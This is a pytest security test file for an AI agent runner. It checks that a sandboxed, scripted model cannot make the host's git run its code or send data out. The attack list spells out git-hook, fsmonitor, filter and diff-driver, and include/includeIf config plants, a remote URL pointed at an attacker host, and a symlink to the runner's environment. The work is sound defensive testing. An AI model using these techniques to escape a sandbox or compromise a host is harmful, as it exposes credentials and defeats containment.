"""The sandbox writes into the work tree and its `.git`; the host's git must not obey it.

One row per attack. Each runs the real runner (claim over moto, clone and push
over git smart HTTP to the GitHub stand-in, the sandbox on the container
engine, a scripted model over Ollama's API): the model's commands plant the
attack inside the sandbox, then write a fix and finish, so the host commits,
pushes and keeps the diff as it always does. The row passes when the attack
failed - no marker file written on the host (every payload is `env > MARKER`,
run on the host if at all), no request reached the attacker's host - and no
canary (token, App key, AWS keys) is found anywhere an attacker could read.
"""

from __future__ import annotations

import json
import os
import shlex
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.fixtures.runner_scenario import (
    FIXED_CALC,
    REPO,
    TEST_COMMAND,
    calc_seed,
    finish,
    remote_branches,
    run_command,
    scenario,
    wait_until,
    write_file,
)
from tests.security.canaries import leaks, sandbox_search

pytestmark = pytest.mark.e2e

KEY = f"{REPO}#1"
BRANCH = "bzzz/1-sum-to-n-leaves-out-n"
SEED = calc_seed(f"test: {json.dumps(TEST_COMMAND)}\n")
QUOTA_MB = 5


@dataclass(frozen=True)
class Attack:
    name: str
    # (marker: host path, attacker: URL) -> the sandbox commands that plant the attack
    plant: Callable[[str, str], list[str]]
    env: dict[str, str] = field(default_factory=dict)
    completes: bool = True  # the task still ends as a draft PR (the attack is inert)


def _hook(marker: str) -> str:
    return shlex.quote(f"#!/bin/sh\nenv > {marker}\nexit 0\n")


def hooks(marker: str, _: str) -> list[str]:
    names = "pre-commit post-commit pre-push reference-transaction post-index-change post-checkout"
    return [
        f"mkdir -p .git/hooks && for h in {names}; do printf %s {_hook(marker)} > .git/hooks/$h; "
        "chmod +x .git/hooks/$h; done"
    ]


def fsmonitor(marker: str, _: str) -> list[str]:
    return [f"git config core.fsmonitor {shlex.quote(f'env > {marker}; false')}"]


def _driver(attribute: str, key: str, command: str) -> list[str]:
    return [
        f"echo '* {attribute}=pwn' > .gitattributes",
        f"git config {key} {shlex.quote(command)}",
    ]


def filter_driver(marker: str, _: str) -> list[str]:
    return _driver("filter", "filter.pwn.clean", f"env > {marker}; cat")


def diff_driver(marker: str, _: str) -> list[str]:
    return _driver("diff", "diff.pwn.command", f"env > {marker}; true")


def textconv(marker: str, _: str) -> list[str]:
    return _driver("diff", "diff.pwn.textconv", f"env > {marker}; cat")


def origin_url(_: str, attacker: str) -> list[str]:
    return [f"git remote set-url origin {attacker}/acme/calc.git"]


def push_url(_: str, attacker: str) -> list[str]:
    return [f"git config remote.origin.pushurl {attacker}/acme/calc.git"]


def include(marker: str, _: str) -> list[str]:
    evil = f'[core]\n\tfsmonitor = "env > {marker}; false"\n'
    return [f"printf %s {shlex.quote(evil)} > evil.cfg", "git config include.path ../evil.cfg"]


def include_if(marker: str, _: str) -> list[str]:
    evil = f'[core]\n\tfsmonitor = "env > {marker}; false"\n'
    return [
        f"printf %s {shlex.quote(evil)} > evil.cfg",
        "git config 'includeIf.gitdir:/.path' ../evil.cfg",
    ]


def symlinks(marker: str, _: str) -> list[str]:
    # The hooks directory becomes a link to hooks the sandbox wrote in the work tree;
    # a second link points at the runner's own environment on the host.
    return [
        f"mkdir -p my-hooks && for h in post-commit pre-push; do printf %s {_hook(marker)} "
        "> my-hooks/$h; chmod +x my-hooks/$h; done",
        "rm -rf .git/hooks && ln -s ../my-hooks .git/hooks",
        f"ln -s /proc/{os.getpid()}/environ runner-environ",
    ]


def nested_git(marker: str, _: str) -> list[str]:
    return [
        "mkdir -p vendor/lib && cd vendor/lib && git init -q && echo x > x && git add x && "
        "git -c user.name=a -c user.email=a@a commit -qm x && "
        f"git config core.fsmonitor {shlex.quote(f'env > {marker}; false')}"
    ]


def over_quota(_: str, __: str) -> list[str]:
    return [f"head -c {3 * QUOTA_MB * 1024 * 1024} /dev/urandom > big.bin"]


ATTACKS = [
    Attack("hooks written into .git/hooks", hooks),
    Attack("core.fsmonitor", fsmonitor),
    Attack("filter driver (clean)", filter_driver),
    Attack("diff driver (external diff command)", diff_driver),
    Attack("textconv driver", textconv),
    Attack("remote.origin.url to the attacker's host", origin_url),
    Attack("remote.origin.pushurl to the attacker's host", push_url),
    Attack("include of a config file the sandbox wrote", include),
    Attack("includeIf of a config file the sandbox wrote", include_if),
    Attack("symlinked .git/hooks and a link out of the work tree", symlinks),
    Attack("nested .git with its own fsmonitor", nested_git),
    Attack(
        "a workspace over its quota",
        over_quota,
        env={"BZZZ_WORKSPACE_QUOTA_MB": str(QUOTA_MB)},
        completes=False,
    ),
]


@pytest.mark.github_seed(SEED)
@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_the_sandbox_cannot_make_the_host_git_obey_it(
    attack: Attack,
    canaries,
    secure_runner_env,
    ollama_emulator,
    start_runner,
    create_task,
    attacker,
    leak_places,
    github,
    aws_settings,
    tmp_path: Path,
) -> None:
    from bzzz.tasks.lifecycle import Lifecycle

    marker = tmp_path / "pwned"
    steps = [run_command(sandbox_search(canaries))]
    steps += [run_command(command) for command in attack.plant(str(marker), attacker.url)]
    steps += [write_file("calc.py", FIXED_CALC), finish("sum_to now includes n.")]
    ollama_emulator.set_scenario(scenario(steps))
    runner = start_runner({**secure_runner_env, **attack.env})
    create_task()
    wait_until(lambda: KEY in runner.process.results, "the runner to finish the task", 180)
    runner.stop()
    task = Lifecycle(aws_settings).get(KEY)
    state_dir = Path(secure_runner_env["BZZZ_STATE_DIR"])
    events = [json.loads(line) for p in state_dir.glob("trajectories/*.jsonl")
              for line in p.read_text().splitlines()]  # fmt: skip
    outputs = [e["step"]["output_excerpt"] for e in events if e["event"] == "step"]

    # Every planting command ran in the sandbox (the attack was really tried).
    assert len(outputs) >= len(steps) - 1, outputs
    assert "canary hits=0 " in outputs[0], outputs[0]
    assert not marker.exists(), f"the host ran the sandbox's code:\n{marker.read_text()[:300]}"
    assert attacker.requests == [], f"git talked to the attacker's host: {attacker.requests}"
    assert leaks(canaries.with_minted(github), leak_places(state_dir)) == []

    branches = remote_branches(github.git_url(REPO))
    if attack.completes:
        assert task.state == "completed", task.reason
        assert BRANCH in branches
    else:
        assert task.state == "failed"
        assert "quota" in task.reason and "big.bin" not in branches
        assert BRANCH not in branches
        diffs = [e for e in events if e["event"] == "final_diff"]
        assert all(len(e.get("diff", "")) < QUOTA_MB * 1024 * 1024 for e in diffs)


@pytest.mark.github_seed(SEED)
def test_the_agent_gets_a_repository_of_its_own_and_the_host_never_reads_it(
    github, docker_client, sandbox_image, canaries, tmp_path: Path
) -> None:
    from runner.credentials import Credentials
    from runner.git.workspace import Workspace, repository_info
    from runner.sandbox.container import Sandbox, SandboxConfig
    from tests.fixtures.containers import TEST_RUNNER_ID

    token = Credentials(github.base_url, dev_token=github.tokens["alice"]).token_for(KEY)
    workspace = Workspace(tmp_path, "calc", token)
    workspace.clone(*repository_info(github.base_url, token))
    assert not workspace.git_dir.is_relative_to(workspace.path)
    box = Sandbox(
        docker_client, workspace.path, runner_id=TEST_RUNNER_ID, task_key=KEY,
        config=SandboxConfig(image=sandbox_image),
    )  # fmt: skip
    with box:
        done = box.run(
            "git log --oneline | wc -l; echo '# more' >> README.md; git diff --stat; "
            "git remote get-url origin; git config --list | grep -c extraheader"
        )
    lines = done.output.splitlines()
    assert lines[0] == "1" and "README.md | 1 +" in done.output, done.output
    assert lines[-2] == workspace.url and lines[-1] == "0"  # no credentials in its config
    assert workspace.commit("more") is not None
    assert ".git" in workspace.sealed.removed  # the throwaway copy, gone before host git ran
    shown = workspace.git("show", "--stat", "--format=", "HEAD")
    assert "README.md" in shown and ".git" not in shown
